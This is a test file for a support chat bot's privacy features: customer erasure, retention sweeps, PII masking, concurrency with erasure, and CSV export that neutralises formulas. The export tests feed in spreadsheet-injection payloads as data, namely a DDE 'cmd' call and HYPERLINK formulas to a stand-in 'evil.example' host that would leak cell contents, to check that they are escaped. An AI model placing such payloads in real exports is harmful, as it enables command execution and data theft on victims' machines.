"""Erasing a customer (API and CLI), the retention sweep, masking, and formula-safe CSV, on SQLite and
PostgreSQL: what the customer wrote and who they are leave every table; the counts stay."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import threading
from collections.abc import AsyncIterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml
from sqlalchemy import inspect, text
from sqlmodel import Session
from typer.testing import CliRunner

from bot import privacy
from bot.config import parse_config
from bot.settings import Settings
from csatbot.cli import app as cli
from csatbot.runtime import Runtime
from storage.repository import SqlRepository
from storage.survey_rows import FORMULA_STARTS, csv_text

from ..conftest import (
    CONFIG,
    MakeHarness,
    api_headers,
    conversation_of,
    customer_reads,
    customer_says,
    served,
)

ANN_WORDS = ("ann.lee@example.com", "Ann Lee", "courier stole", "5 Main Street", "Hi Ann")


def write_config(folder: Path, **top: Any) -> Path:
    data = yaml.safe_load(CONFIG.read_text(encoding="utf-8"))
    data["triggers"][0]["delay"] = "0s"
    data["surveying"]["quiet_hours"] = None
    data["teams"]["support"]["webhook_url"] = "http://127.0.0.1:9/tickets"  # copies in the outbox
    data.update(top)
    path = folder / "config.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


@pytest.fixture
async def app(database_url: str, tmp_path: Path) -> AsyncIterator[tuple[httpx.AsyncClient, Runtime]]:
    runtime = Runtime(write_config(tmp_path), database_url, tick_seconds=0.05)
    async with served(runtime) as http:
        yield http, runtime


async def unhappy_customer(
    http: httpx.AsyncClient, user: str, name: str, comment: str, street: str = "5 Main Street"
) -> int:
    """``user`` writes, an agent replies and resolves, the customer rates 1 and comments: a ticket."""
    # The page sends a client message id (chat.js): its dedupe receipt is "<user>/<id>".
    said = f"I am {name}, my parcel never came to {street}"
    await customer_says(http, user, text=said, name=name, id="c-1")
    conversation = await conversation_of(http, user)
    await http.post(
        f"/api/conversations/{conversation}/reply", json={"text": f"Hi {name.split()[0]}, sorry!"}
    )
    resolved = (
        await http.post(f"/api/conversations/{conversation}/resolve", json={"send_survey_now": True})
    ).json()
    survey = resolved["survey_id"]
    for _ in range(200):
        chat = (await customer_reads(http, user)).json()["messages"]
        if any((m.get("prompt") or {}).get("step") == "rating" for m in chat):
            break
        await asyncio.sleep(0.05)
    for step, value in (("rating", "1"), ("reason", "slow")):
        await customer_says(http, user, choice={"survey": survey, "step": step, "value": value})
    await customer_says(http, user, text=comment)
    detail = (await http.get(f"/api/conversations/{conversation}")).json()
    assert detail["ticket"] is not None and detail["survey"]["status"] == "completed"
    return int(detail["customer"]["id"])


def everything(runtime: Runtime) -> str:
    """Every row of every table, as text."""
    with runtime.database.reader.connect() as conn:
        tables = inspect(conn).get_table_names()
        return "\n".join(f"{t}: {list(conn.execute(text(f'select * from {t}')))}" for t in sorted(tables))


async def totals(http: httpx.AsyncClient) -> dict[str, Any]:
    report = (await http.get("/api/reports")).json()["total"]
    return {k: report[k] for k in ("sent", "responded", "csat_n", "dsat")}


async def test_erasing_a_customer_removes_their_words_and_identity_and_keeps_the_counts(
    app: tuple[httpx.AsyncClient, Runtime],
) -> None:
    http, runtime = app
    ann = await unhappy_customer(http, "ann.lee@example.com", "Ann Lee", "the courier stole it")
    await unhappy_customer(http, "bob", "Bob Ray", "never again", street="9 Side Road")
    with runtime.database.writer.begin() as conn:  # a platform update that failed for good keeps its body
        conn.execute(
            text(
                "insert into inbox (channel, key, sender, body, received_at, status, attempts) "
                "values ('webchat', 'u-1', :who, :body, :at, 'failed', 5)"
            ),
            {"who": "ann.lee@example.com", "body": b"courier stole it again", "at": runtime.clock.now()},
        )
        for user in ("ann.lee@example.com", "bob"):  # per-chat rate buckets name the platform's user
            conn.execute(
                text("insert into rate_bucket (key, level, updated) values (:key, 1, 0)"),
                {"key": f"webchat:default:chat:{user}"},
            )
    before, dump = await totals(http), everything(runtime)
    assert all(word in dump for word in ANN_WORDS) and "ann.lee@example.com/c-1" in dump
    tickets_before = len((await http.get("/api/tickets")).json())

    agent = api_headers(runtime.database, "carol", "agent")
    assert (await http.delete(f"/api/customers/{ann}", headers=agent)).status_code == 403
    erased = await http.delete(f"/api/customers/{ann}")
    assert erased.status_code == 200, erased.text
    counts = erased.json()["erased"]
    assert counts["identities"] == 1 and counts["messages"] >= 6 and counts["tickets"] == 1
    assert counts["outbox"] >= 1 and counts["answers"] == 3
    assert (counts["inbox"], counts["receipts"]) == (1, 1)

    dump = everything(runtime)
    assert [line[:300] for line in dump.splitlines() if any(w in line for w in ANN_WORDS)] == []
    assert "Bob Ray" in dump and "never again" in dump  # nobody else's data moved
    assert "webchat:default:chat:bob" in dump
    assert await totals(http) == before  # reports keep their numbers
    assert len((await http.get("/api/tickets")).json()) == tickets_before
    with runtime.database.reader.connect() as conn:
        audit = [tuple(r) for r in conn.execute(text("select actor, action, subject from audit_event"))]
    assert audit == [("support (token)", "customer.erased", f"customer {ann}")]
    # The customer writing again is a new customer with none of the old history.
    assert (await customer_reads(http, "ann.lee@example.com")).json()["messages"] == []
    assert (await http.delete("/api/customers/999999")).status_code == 404
    assert (await http.delete(f"/api/customers/{2**31}")).status_code == 422


def test_the_cli_erases_and_records_who(tmp_path: Path) -> None:
    db = tmp_path / "cli.db"
    runtime = Runtime(write_config(tmp_path), f"sqlite:///{db}", tick_seconds=0.05)

    async def prepare() -> int:
        async with served(runtime) as http:
            return await unhappy_customer(http, "ann.lee@example.com", "Ann Lee", "the courier stole it")

    ann = asyncio.run(prepare())
    asked = CliRunner().invoke(cli, ["customers", "erase", str(ann), "--db", str(db)], input="n\n")
    assert (
        asked.exit_code == 1 and "Erase customer" in asked.output and "5 Main Street" in everything(runtime)
    )
    done = CliRunner().invoke(cli, ["customers", "erase", str(ann), "--db", str(db), "--yes"])
    assert done.exit_code == 0, done.output
    assert f"customer {ann} erased" in done.output
    dump = everything(runtime)
    assert [word for word in ANN_WORDS if word in dump] == []
    assert "(cli)" in dump and "customer.erased" in dump
    missing = CliRunner().invoke(cli, ["customers", "erase", "424242", "--db", str(db), "--yes"])
    assert missing.exit_code == 1 and "no customer with id 424242" in missing.output
    runtime.database.dispose()


def test_the_cli_refuses_a_database_that_does_not_exist_before_asking(tmp_path: Path) -> None:
    """A mistyped ``--db`` asked "Erase customer 1 for good?", then made an empty database there."""
    typo = tmp_path / "csatbot.bd"
    result = CliRunner().invoke(cli, ["customers", "erase", "1", "--db", str(typo)], input="y\n")
    assert result.exit_code == 2, result.output
    assert f"no database at {typo}: pass --db" in result.output and "Erase customer" not in result.output
    assert list(tmp_path.iterdir()) == []


def configured(**top: Any) -> Settings:
    data = yaml.safe_load(CONFIG.read_text(encoding="utf-8"))
    data["teams"]["support"]["webhook_url"] = "http://127.0.0.1:9/tickets"
    data.update(top)
    return Settings.from_config(parse_config(yaml.safe_dump(data, allow_unicode=True)))


async def test_nothing_goes_out_to_an_erased_customer_and_nothing_new_is_kept_about_them(
    app: tuple[httpx.AsyncClient, Runtime],
) -> None:
    """Erased, the customer's identity is a placeholder (``erased-<id>``): an agent's reply to their
    conversation was queued to it (new words stored about them, a send to nobody) and resolving it
    planned a survey to it. Now a reply is 409 and the survey is skipped before anything is queued."""
    http, runtime = app
    await customer_says(http, "ann", text="my parcel never came to 5 Main Street", id="c-1")
    conversation = await conversation_of(http, "ann")
    customer = (await http.get(f"/api/conversations/{conversation}")).json()["customer"]["id"]
    assert (await http.delete(f"/api/customers/{customer}")).status_code == 200
    queued = "select count(*) from outbox where kind = 'message'"
    with runtime.database.reader.connect() as conn:
        before = conn.execute(text(queued)).scalar_one()

    reply = await http.post(f"/api/conversations/{conversation}/reply", json={"text": "Hi Ann, sorry!"})
    assert reply.status_code == 409, reply.text
    assert "erased" in reply.json()["detail"]
    resolved = await http.post(f"/api/conversations/{conversation}/resolve", json={"send_survey_now": True})
    assert resolved.status_code == 200, resolved.text
    with runtime.database.reader.connect() as conn:
        assert conn.execute(text(queued)).scalar_one() == before
        skipped = conn.execute(text("select status, skip_reason from survey")).all()
    assert [tuple(row) for row in skipped] == [("skipped", "customer erased")]
    dump = everything(runtime)
    assert "Hi Ann" not in dump and "5 Main Street" not in dump
    escalated = await http.post(f"/api/conversations/{conversation}/escalate", json={"reason": "call Ann"})
    assert escalated.status_code == 409 and "erased" in escalated.json()["detail"], escalated.text
    # A deep link would attach a chat (a name, a phone number) to their kept history again.
    link = await http.post(f"/api/customers/{customer}/link")
    assert link.status_code == 409 and "erased" in link.json()["detail"], link.text


async def test_the_daily_sweep_forgets_old_words_and_keeps_scores(make_harness: MakeHarness) -> None:
    h = make_harness(configured(retention={"transcripts": "2d", "comments": "3d"}))
    first = await h.say("ann", "an old complaint about 5 Main Street")
    await h.service.resolve(first.conversation_id, "bob", send_now=True)
    survey = h.rows("select id from survey")[0][0]
    await h.tap("ann", survey, "rating", "2")
    await h.tap("ann", survey, "reason", "slow")
    await h.say("ann", "an old comment")
    with h.database.writer.begin() as conn:  # an update the inbox worker gave up on, kept to inspect
        conn.execute(
            text(
                "insert into inbox (channel, key, sender, body, received_at, status, attempts, error) "
                "values ('telegram', 'k1', 'ann', :body, :at, 'failed', 9, 'boom')"
            ),
            {"body": b"an old update about 5 Main Street", "at": h.clock.now()},
        )
    assert await h.service.schedule_retention() is True
    assert await h.service.schedule_retention() is False  # one pending sweep, however often asked
    assert await h.tick(seconds=1) == ["retention sweep: nothing was due"]
    h.clock.advance(timedelta(days=2, hours=1))
    await h.say("bob", "a fresh message")
    outcome = await h.tick(days=1)  # tomorrow's sweep: messages are 3 days old, comments too
    [swept] = [o for o in outcome if o.startswith("retention sweep")]
    assert swept.startswith("retention sweep: messages ") and "answers 1" in swept
    texts = [r[0] for r in h.rows("select text from message order by id")]
    assert "an old complaint about 5 Main Street" not in texts and "a fresh message" in texts
    assert h.rows("select text from answer where text is not null") == [("[erased]",)]
    assert h.rows("select score from answer where score is not null") == [(2,)]
    assert h.rows("select csat from survey where csat is not null") == [(2,)]
    assert "old comment" not in str(h.rows("select state from survey"))
    assert h.rows("select count(*) from inbox") == [(0,)]  # the update given up on is gone
    assert str(h.rows("select transcript from ticket")).count("Main Street") == 1  # the ticket is still open
    assert h.rows("select due_at > :now from timer where kind = 'retention'", now=h.clock.now()) == [(True,)]


async def test_the_sweep_forgets_notes_and_words_in_done_tickets_dead_letters_and_old_receipts(
    make_harness: MakeHarness,
) -> None:
    h = make_harness(configured(retention={"transcripts": "2d"}))
    first = await h.say("ann", "my parcel to 5 Main Street", platform_id="ann/c-1")
    ticket = await h.service.escalate(first.conversation_id, "bob", "customer upset")
    await h.say("ann", "still nothing at 5 Main Street")  # copied into the ticket's events
    await h.service.ticket("note", ticket.id, "bob", "Ann lives at 5 Main Street")
    await h.service.ticket("resolve", ticket.id, "bob")
    with h.database.writer.begin() as conn:
        conn.execute(
            text(
                "insert into inbox (channel, key, sender, body, received_at, status, attempts) "
                "values ('telegram', '7', 'ann', :body, :at, 'failed', 5)"
            ),
            {"body": b"my parcel to 5 Main Street", "at": h.clock.now()},
        )
    kept_key = (
        "insert into api_request (account, key, digest, result, received_at) values ('bob', :k, 'd', 1, :at)"
    )
    with h.database.writer.begin() as conn:
        conn.execute(text(kept_key), {"k": "old", "at": h.clock.now()})
    details = [r[0] for r in h.rows("select detail from ticketevent order by id")]
    assert sum("Main Street" in d for d in details) == 2
    h.clock.advance(timedelta(days=3))
    await h.say("bob", "a fresh message", platform_id="bob/c-1")
    with h.database.writer.begin() as conn:
        conn.execute(text(kept_key), {"k": "fresh", "at": h.clock.now()})
    assert await h.service.schedule_retention() is True
    [swept] = [o for o in await h.tick(seconds=1) if o.startswith("retention sweep")]
    assert "ticket_events 2" in swept and "inbox 1" in swept, swept
    assert "Main Street" not in str(h.rows("select * from ticketevent"))
    assert [r[0] for r in h.rows("select action from ticketevent order by id")] == [
        "opened",
        "customer_wrote",
        "note",
        "resolved",
    ]  # what happened stays, the words go
    assert h.rows("select count(*) from inbox") == [(0,)]
    assert h.rows("select platform_id from inboundreceipt") == [("bob/c-1",)]
    assert h.rows("select key from api_request") == [("fresh",)]  # Idempotency-Keys go with receipts


async def test_masking_hides_emails_phones_and_cards_in_what_is_kept_and_sent(
    make_harness: MakeHarness,
) -> None:
    h = make_harness(configured(masking=["email", "phone", "card"]))
    result = await h.say("ann", "mail ann.lee@example.com or call 13800138000, card 4111 1111 1111 1111")
    await h.service.escalate(result.conversation_id, "bob", "call her back")
    stored = h.rows("select text from message")[0][0]
    assert stored == "mail [email] or call [phone], card [card]"
    dump = str(h.rows("select * from ticket")) + str(h.rows("select body from outbox"))
    assert "[email]" in dump
    for secret in ("ann.lee@example.com", "13800138000", "4111 1111 1111 1111"):
        assert secret not in dump


def test_export_cells_that_would_start_a_formula_are_neutralised() -> None:
    rows = [("s1", '=HYPERLINK("http://evil","x")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "ok", 5, -5)]
    assert csv_text(rows) == (
        's1,"\'=HYPERLINK(""http://evil"",""x"")",\'+1,\'-2+3,\'@SUM(A1),\'\tx,"\'\rx",ok,5,-5\r\n'
    )
    full_width = [("s2", '＝HYPERLINK("http://evil")', "＋1", "－1", "＠A1", "满意＝5")]
    assert csv_text(full_width) == 's2,"\'＝HYPERLINK(""http://evil"")",\'＋1,\'－1,\'＠A1,满意＝5\r\n'


def formulas_when_split(text: str) -> list[tuple[str, str]]:
    """(separator, cell) of each cell of ``text``'s first row that a spreadsheet splitting on ``,``,
    ``;`` or a tab would read as a formula (leading spaces trimmed)."""
    return [
        (delimiter, cell)
        for delimiter in (",", ";", "\t")
        for cell in next(csv.reader(io.StringIO(text), delimiter=delimiter))
        if cell.lstrip().startswith(FORMULA_STARTS)
    ]


def test_a_formula_after_a_semicolon_or_leading_spaces_is_neutralised_too() -> None:
    """Where the list separator is ';' (much of Europe), a spreadsheet splits the unquoted cell
    ``ok;=cmd|...`` in two and the second is a formula (OWASP: mind the field separator, not only the
    first character); a formula after leading spaces is one where spaces are trimmed on import."""
    dde = "ok;=cmd|' /C calc'!A0"
    rows = [("s3", dde, "x; +1", "a;@SUM(A1)", " =1+1", "\u00a0-2+3", "amy;bob", "a;b")]
    text = csv_text(rows)
    assert formulas_when_split(text) == []
    assert next(csv.reader(io.StringIO(text)))[1:] == [
        "ok;'=cmd|' /C calc'!A0",
        "x; '+1",
        "a;'@SUM(A1)",
        "' =1+1",
        "'\u00a0-2+3",
        "amy;bob",
        "a;b",
    ]


def test_a_formula_after_a_tab_is_neutralised_too() -> None:
    """A tab inside a cell is not quoted (only commas, quotes and line ends are), so a spreadsheet
    that splits on tabs as well (LibreOffice's import can) read ``ok<TAB>=cmd|...`` as two cells, the
    second a formula, as it did after a ';'."""
    rows = [("s4", "ok\t=cmd|' /C calc'!A0", "x\t +1", "a\t\t@SUM(A1)", "tab\tonly")]
    text = csv_text(rows)
    assert formulas_when_split(text) == []
    assert next(csv.reader(io.StringIO(text)))[1:] == [
        "ok\t'=cmd|' /C calc'!A0",
        "x\t '+1",
        "a\t\t'@SUM(A1)",
        "tab\tonly",
    ]


async def test_the_api_export_neutralises_a_formula_in_a_comment(
    app: tuple[httpx.AsyncClient, Runtime],
) -> None:
    http, _ = app
    await unhappy_customer(http, "eve", "Eve", '=HYPERLINK("http://evil.example/?"&A1,"click")')
    export = (await http.get("/api/reports/export.csv")).content.decode("utf-8-sig")
    assert "'=HYPERLINK(" in export and ',"=HYPERLINK' not in export


async def erasing(runtime: Runtime, customer: int) -> tuple[asyncio.Task[None], threading.Event]:
    """An erasure of ``customer`` done but not committed (its transaction open) until the event is set;
    the task ends once it has committed."""
    erased, release = threading.Event(), threading.Event()

    def erase_and_hold() -> None:
        with Session(runtime.database.writer) as session, session.begin():
            privacy.erase(SqlRepository(session), customer, "test", runtime.clock.now())
            erased.set()
            release.wait(10)

    eraser = asyncio.create_task(asyncio.to_thread(erase_and_hold))
    assert await asyncio.to_thread(erased.wait, 10)
    return eraser, release


async def test_what_races_an_erasure_waits_for_it_and_is_refused(
    app: tuple[httpx.AsyncClient, Runtime],
) -> None:
    """An erasure in progress (its transaction open) and, meanwhile, an agent's reply (to the
    conversation and on its ticket), an escalation and a deep link for the same customer. On
    PostgreSQL each checked the customer against what was committed before the erasure and went on:
    the replies' words were kept and queued to the customer's real id, the ticket took a new reason,
    a link attached a chat to them again. Now each waits for the erasure and is refused (409), and
    nothing of them is stored."""
    http, runtime = app
    await customer_says(http, "ann", text="my parcel never came to 5 Main Street", id="c-1")
    conversation = await conversation_of(http, "ann")
    customer = (await http.get(f"/api/conversations/{conversation}")).json()["customer"]["id"]
    escalated = await http.post(f"/api/conversations/{conversation}/escalate", json={"reason": "lost"})
    ticket = escalated.json()["id"]
    eraser, release = await erasing(runtime, customer)
    racing = asyncio.gather(
        http.post(f"/api/conversations/{conversation}/reply", json={"text": "Hi Ann, sorry!"}),
        http.post(f"/api/conversations/{conversation}/escalate", json={"reason": "call Ann back"}),
        http.post(f"/api/customers/{customer}/link"),
        http.post(f"/api/tickets/{ticket}/reply", json={"text": "Hi Ann, a courier comes"}),
    )
    await asyncio.sleep(0.3)  # long enough for each to reach the database
    release.set()
    answers = await racing
    await eraser
    assert [a.status_code for a in answers] == [409] * 4, [a.text for a in answers]
    assert all("erased" in a.json()["detail"] for a in answers)
    dump = everything(runtime)
    assert "Hi Ann" not in dump and "call Ann back" not in dump and '"ann"' not in dump
    with runtime.database.reader.connect() as conn:
        assert conn.execute(text("select count(*) from link_token")).scalar_one() == 0
        assert conn.execute(text("select count(*) from ticket")).scalar_one() == 1


async def test_a_ticket_resolved_while_its_customer_is_erased_sends_them_nothing(
    app: tuple[httpx.AsyncClient, Runtime],
) -> None:
    """An erasure in progress (its transaction open) and, meanwhile, the ticket's resolution with its
    close-the-loop message. The resolution reads the identity without a lock, but only after locking
    the ticket, which the erasure writes: it waits for the erasure and reads the erased identity (the
    other way round, on PostgreSQL, the two deadlock and one is retried). Read before that lock, the
    customer's real id was queued after the erasure had emptied their outbox rows."""
    http, runtime = app
    await customer_says(http, "ann", text="my parcel never came", id="c-1")
    conversation = await conversation_of(http, "ann")
    customer = (await http.get(f"/api/conversations/{conversation}")).json()["customer"]["id"]
    escalated = await http.post(f"/api/conversations/{conversation}/escalate", json={"reason": "lost"})
    eraser, release = await erasing(runtime, customer)
    racing = asyncio.create_task(http.post(f"/api/tickets/{escalated.json()['id']}/resolve", json={}))
    await asyncio.sleep(0.3)  # long enough to reach the database
    release.set()
    resolved = await racing
    await eraser
    assert resolved.status_code == 200 and resolved.json()["status"] == "resolved", resolved.text
    with runtime.database.reader.connect() as conn:
        queued = conn.execute(text("select status, recipient from outbox where kind = 'message'")).all()
    recipients = [r if isinstance(r, dict) else json.loads(r) for _, r in queued]
    assert [r.get("user") for r in recipients] == [None, "erased-1"], queued  # the first one, emptied
    assert [status for status, _ in queued][1] == "dead"
